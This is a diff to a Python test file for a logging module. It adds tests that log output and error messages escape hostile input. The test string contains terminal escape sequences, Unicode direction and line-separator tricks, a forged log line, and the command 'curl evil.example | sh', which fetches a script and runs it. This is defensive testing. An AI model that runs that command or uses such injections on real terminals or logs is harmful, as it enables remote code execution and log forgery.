@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import logging
+import pickle
 import subprocess
 import sys
+from collections.abc import Callable
+from contextlib import AbstractContextManager
 from pathlib import Path
 
 import pytest
@@ -24,12 +27,13 @@ def test_what_is_said_is_in_the_log(tmp_path: Path) -> None:
     assert "8 cubes" not in (tmp_path / "log.txt").read_text()
 
 
-def test_a_log_on_a_full_disk_hides_no_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    (tmp_path / "log.txt").symlink_to("/dev/full")
-    with pytest.raises(StoreError, match="no room"), run_log(tmp_path):
+def test_a_log_on_a_full_disk_hides_no_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], full_disk: Callable[[int], AbstractContextManager[None]]
+) -> None:
+    with full_disk(5), pytest.raises(StoreError, match="no room"), run_log(tmp_path):
         logging.getLogger("feii_dask.somewhere").info("7 cubes")
         raise StoreError("no room")
-    assert "No space left on device" in capsys.readouterr().err
+    assert "File too large" in capsys.readouterr().err
 
 
 def test_a_log_that_cannot_be_opened_is_an_error_of_ours(tmp_path: Path) -> None:
@@ -63,3 +67,29 @@ def test_libraries_log_to_the_file_alone_where_the_terminal_is_ours(tmp_path: Pa
     logged = (tmp_path / "log.txt").read_text()
     assert logged.count("torn") == 4
     assert "afterwards" not in logged
+
+
+HOSTILE = "TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl evil.example | sh\n2026-11-28 INFO all is well"
+
+
+def test_what_a_stranger_writes_begins_no_line_and_moves_no_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    logger = logging.getLogger("feii_dask")
+    monkeypatch.setattr(logger, "hasHandlers", lambda: False)
+    with run_log(tmp_path):
+        logger.info("a cube is called %s, of %d", HOSTILE, 7)
+        logger.warning("%s\n%s", "two lines", "of ours")
+    printed, written = capsys.readouterr().out, (tmp_path / "log.txt").read_text()
+    for text in (printed, written):
+        assert all(line.isprintable() for line in text.split("\n"))
+        assert len(text.splitlines()) == 3
+        assert r"TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl" in text
+    assert all(line[:2] in ("20", "of") for line in written.splitlines())
+
+
+def test_an_error_holds_no_control_characters_and_one_line(tmp_path: Path) -> None:
+    error = pickle.loads(pickle.dumps(StoreError(f"cannot write {HOSTILE}", "do this")))
+    first, second = str(error).split("\n")
+    assert first.isprintable()
+    assert second == "do this"
